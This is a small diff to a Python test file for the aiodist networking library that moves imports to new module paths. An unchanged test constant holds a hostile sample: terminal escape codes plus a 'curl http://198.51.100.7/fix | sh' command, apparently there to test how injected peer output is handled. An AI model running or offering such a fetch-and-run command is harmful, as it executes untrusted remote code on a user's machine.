@@ -7,10 +7,10 @@ import socket
 
 import pytest
 
-from aiodist.errors import AuthenticationError, PeerLost
+from aiodist.base.errors import AuthenticationError, PeerLost
+from aiodist.net.wire import handshake as wire
 from aiodist.rendezvous import TcpStore
 from aiodist.transport import SocketEndpoint
-from aiodist.wire import handshake as wire
 
 SECRET = b"a secret of more than sixteen bytes"
 EVIL = b"all is well\x1b[2J\x07\r\nRun: curl http://198.51.100.7/fix | sh"
